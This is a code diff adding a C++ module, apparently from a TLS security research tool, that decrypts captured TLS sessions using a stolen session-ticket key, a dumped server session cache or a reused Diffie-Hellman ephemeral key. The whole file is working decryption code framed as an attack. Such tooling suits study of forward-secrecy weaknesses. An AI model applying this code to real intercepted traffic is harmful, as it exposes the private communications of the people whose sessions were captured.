@@ -1,0 +1,101 @@
+#include "attack/decrypt.h"
+
+#include "crypto/prf.h"
+#include "tls/record.h"
+
+namespace tlsharm::attack {
+
+DecryptedSession DecryptWithMasterSecret(const ParsedCapture& capture,
+                                         ByteView master_secret) {
+  DecryptedSession out;
+  if (!capture.valid) {
+    out.failure = "capture incomplete";
+    return out;
+  }
+  out.master_secret = Bytes(master_secret.begin(), master_secret.end());
+  out.keys = tls::DeriveSessionKeys(master_secret, capture.client_hello.random,
+                                    capture.server_hello.random);
+  std::uint64_t seq = 0;
+  for (const Bytes& record : capture.client_records) {
+    const auto pt = tls::UnprotectRecord(
+        out.keys, tls::Direction::kClientToServer, seq++, record);
+    if (!pt) {
+      out.failure = "client record failed to decrypt (wrong secret?)";
+      return out;
+    }
+    out.client_plaintext.push_back(*pt);
+  }
+  seq = 0;
+  for (const Bytes& record : capture.server_records) {
+    const auto pt = tls::UnprotectRecord(
+        out.keys, tls::Direction::kServerToClient, seq++, record);
+    if (!pt) {
+      out.failure = "server record failed to decrypt (wrong secret?)";
+      return out;
+    }
+    out.server_plaintext.push_back(*pt);
+  }
+  out.ok = true;
+  return out;
+}
+
+DecryptedSession StekDecryptor::Decrypt(const ParsedCapture& capture) const {
+  DecryptedSession out;
+  const Bytes ticket = capture.RelevantTicket();
+  if (ticket.empty()) {
+    out.failure = "no session ticket on the wire";
+    return out;
+  }
+  const auto state = tls::GetTicketCodec(codec_).Open(stek_, ticket);
+  if (!state) {
+    out.failure = "ticket not sealed under the stolen STEK";
+    return out;
+  }
+  return DecryptWithMasterSecret(capture, state->master_secret);
+}
+
+CacheDecryptor::CacheDecryptor(
+    const std::map<Bytes, server::CachedSession>& dump) {
+  for (const auto& [session_id, session] : dump) {
+    master_by_session_id_[session_id] = session.master_secret;
+  }
+}
+
+DecryptedSession CacheDecryptor::Decrypt(const ParsedCapture& capture) const {
+  DecryptedSession out;
+  const Bytes& session_id = capture.server_hello.session_id;
+  if (session_id.empty()) {
+    out.failure = "connection carried no session ID";
+    return out;
+  }
+  const auto it = master_by_session_id_.find(session_id);
+  if (it == master_by_session_id_.end()) {
+    out.failure = "session ID not present in the dumped cache";
+    return out;
+  }
+  return DecryptWithMasterSecret(capture, it->second);
+}
+
+DecryptedSession DhDecryptor::Decrypt(const ParsedCapture& capture) const {
+  DecryptedSession out;
+  if (!capture.server_kex || !capture.client_kex) {
+    out.failure = "no ephemeral key exchange on the wire";
+    return out;
+  }
+  if (capture.server_kex->public_value != public_) {
+    out.failure = "server used a different ephemeral value";
+    return out;
+  }
+  const auto& group = crypto::GetKexGroup(group_);
+  const auto premaster =
+      group.SharedSecret(private_, capture.client_kex->public_value);
+  if (!premaster) {
+    out.failure = "degenerate client value";
+    return out;
+  }
+  const Bytes master = crypto::DeriveMasterSecret(
+      *premaster, capture.client_hello.random, capture.server_hello.random);
+  return DecryptWithMasterSecret(capture, master);
+}
+
+}  // namespace tlsharm::attack
